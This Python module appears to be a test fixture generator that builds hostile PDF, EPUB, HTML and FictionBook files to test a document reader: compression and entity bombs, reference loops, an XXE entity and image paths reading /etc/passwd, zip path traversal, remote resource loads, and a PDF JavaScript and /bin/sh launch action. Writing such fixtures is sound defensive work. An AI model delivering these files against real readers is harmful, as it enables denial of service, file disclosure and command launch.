"""Documents that were made to do harm, by hand: each with what it is out for."""

import io
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Final

_CONTAINER: Final = (
    '<?xml version="1.0"?><container version="1.0" '
    'xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile '
    'full-path="book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>'
)
_BOOK: Final = (
    '<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata/>'
    '<manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml"/></manifest>'
    '<spine><itemref idref="a"/></spine></package>'
)
_BOMB: Final = 300 * 2**20  # bytes that something small unpacks to


def traps(folder: Path) -> Iterator[tuple[str, Path]]:
    """Write all traps into a folder; the name and the file of each."""
    for name, make in _TRAPS.items():
        path = folder / name
        path.write_bytes(make())
        yield name, path


def _pdf(*objects: bytes, root: bytes = b"1 0 R") -> bytes:
    """A PDF of numbered objects, the first of which is its catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root %s>>\n" % (len(objects) + 1, root)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def _stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), entries, content)


_CATALOGUE: Final = b"<</Type/Catalog/Pages 2 0 R>>"
_PAGES: Final = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def _page(entries: bytes = b"/Contents 4 0 R", size: bytes = b"0 0 200 200") -> bytes:
    return b"<</Type/Page/Parent 2 0 R/MediaBox[%s]%s>>" % (size, entries)


def _loop_of_pages() -> bytes:
    return _pdf(_CATALOGUE, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1000000>>")


def _pages_that_are_not_there() -> bytes:
    return _pdf(_CATALOGUE, b"<</Type/Pages/Kids[]/Count 100000>>")


def _page_of(size: bytes) -> bytes:
    return _pdf(_CATALOGUE, _PAGES, _page(size=size), _stream(b"0 0 9 9 re f"))


def _huge_picture() -> bytes:
    picture = b"/Type/XObject/Subtype/Image/Width 32000/Height 32000/BitsPerComponent 8"
    picture += b"/ColorSpace/DeviceRGB/Filter/FlateDecode"
    return _pdf(
        _CATALOGUE,
        _PAGES,
        _page(b"/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>"),
        _stream(b"200 0 0 200 0 0 cm /I Do"),
        _stream(zlib.compress(bytes(_BOMB), 9), picture),
    )


def _endless_stream() -> bytes:
    entries = b"/Filter[/FlateDecode/FlateDecode]"
    packed = zlib.compress(zlib.compress(b"0 0 1 1 re f\n" * (_BOMB // 13), 9), 9)
    return _pdf(_CATALOGUE, _PAGES, _page(), _stream(packed, entries))


def _stream_without_end() -> bytes:
    body = b"<</Length 999999999999>>stream\n" + b"0 0 1 1 re f\n" * 1000
    return _pdf(_CATALOGUE, _PAGES, _page(), body)


def _form_in_itself() -> bytes:
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>"
    return _pdf(
        _CATALOGUE,
        _PAGES,
        _page(b"/Contents 4 0 R/Resources<</XObject<</F 5 0 R>>>>"),
        _stream(b"/F Do"),
        _stream(b"/F Do /F Do", form),
    )


def _deep_arrays() -> bytes:
    return _pdf(_CATALOGUE, _PAGES, _page(b"/Contents 4 0 R/X " + b"[" * 100_000), _stream(b""))


def _loop_of_contents() -> bytes:
    return _pdf(
        b"<</Type/Catalog/Pages 2 0 R/Outlines 5 0 R>>",
        _PAGES,
        _page(),
        _stream(b""),
        b"<</First 6 0 R/Last 6 0 R/Count 1>>",
        b"<</Title(a)/Parent 6 0 R/Next 6 0 R/First 6 0 R/Dest[99 0 R/XYZ 0 1e99 0]>>",
    )


def _links_nowhere() -> bytes:
    links = b"".join(
        b"<</Type/Annot/Subtype/Link/Rect[%s]/Dest%s>>" % (box, place)
        for box in (b"0 0 9 9", b"9 9 0 0", b"-1e30 0 1e30 9", b"0 0")
        for place in (b"[99 0 R/Fit]", b"(no name)", b"[3 0 R/XYZ null null 1e38]", b"[]")
    )
    return _pdf(_CATALOGUE, _PAGES, _page(b"/Contents 4 0 R/Annots[%s]" % links), _stream(b""))


def _script() -> bytes:
    action = b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://x.invalid'\\))>>"
    return _pdf(
        b"<</Type/Catalog/Pages 2 0 R%s>>" % action,
        _PAGES,
        _page(b"/Contents 4 0 R/AA<</O<</S/Launch/F(/bin/sh)>>>>"),
        _stream(b"0 0 9 9 re f", b"/F(/etc/passwd)"),
    )


def _epub(page: bytes, *more: tuple[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/epub+zip", zipfile.ZIP_STORED)
        archive.writestr("META-INF/container.xml", _CONTAINER)
        archive.writestr("book.opf", _BOOK)
        archive.writestr("a.xhtml", page)
        for name, content in more:
            archive.writestr(zipfile.ZipInfo(name), content)
    return file.getvalue()


def _bomb() -> bytes:
    return _epub(b"<html><body>" + b"<p>a</p>" * (_BOMB // 8))


def _paths() -> bytes:
    page = b"<html><body><img src='../../../../etc/passwd'/><img src='/etc/passwd'/>"
    return _epub(page + b"</body></html>", ("../../escaped.txt", b"outside"))


def _remote() -> bytes:
    page = (
        b"<html><head><link rel='stylesheet' href='http://x.invalid/a.css'/>"
        b"<script>while(1);</script></head><body><img src='http://x.invalid/a.png'/>"
        b"<img src='file:///etc/passwd'/><iframe src='http://x.invalid'/></body></html>"
    )
    return _epub(page)


def _deep_page() -> bytes:
    return b"<html><body>" + b"<div>" * 200_000


def _entities(name: bytes) -> bytes:
    ten_times = [(number, b"&l%d;" % (number - 1) * 10) for number in range(1, 12)]
    lines = b"".join(b'<!ENTITY l%d "%s">' % each for each in ten_times)
    head = b'<?xml version="1.0"?><!DOCTYPE %s [<!ENTITY l0 "laughter">%s]>' % (name, lines)
    return head + b"<%s><body><section><p>&l11;</p></section></body></%s>" % (name, name)


def _entity_of_a_file() -> bytes:
    return (
        b'<?xml version="1.0"?><!DOCTYPE FictionBook [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b"<FictionBook><body><section><p>&x;</p></section></body></FictionBook>"
    )


_TRAPS: Final[dict[str, Callable[[], bytes]]] = {
    "page-tree loop.pdf": _loop_of_pages,
    "pages that are not there.pdf": _pages_that_are_not_there,
    "page of no size.pdf": lambda: _page_of(b"0 0 0 0"),
    "page of one point.pdf": lambda: _page_of(b"0 0 1 1"),
    "page of ten metres.pdf": lambda: _page_of(b"0 0 28346 28346"),
    "page of 1e30 points.pdf": lambda: _page_of(b"-1e30 -1e30 1e30 1e30"),
    "picture of 1e9 pixels.pdf": _huge_picture,
    "stream that unpacks twice.pdf": _endless_stream,
    "stream without an end.pdf": _stream_without_end,
    "form in itself.pdf": _form_in_itself,
    "arrays in arrays.pdf": _deep_arrays,
    "loop of contents.pdf": _loop_of_contents,
    "links that lead nowhere.pdf": _links_nowhere,
    "script and launch.pdf": _script,
    "zip bomb.epub": _bomb,
    "paths that lead out.epub": _paths,
    "remote resources.epub": _remote,
    "endless nesting.html": _deep_page,
    "entity bomb.fb2": lambda: _entities(b"FictionBook"),
    "entity bomb.epub": lambda: _epub(_entities(b"html")),
    "entity of a file.fb2": _entity_of_a_file,
}
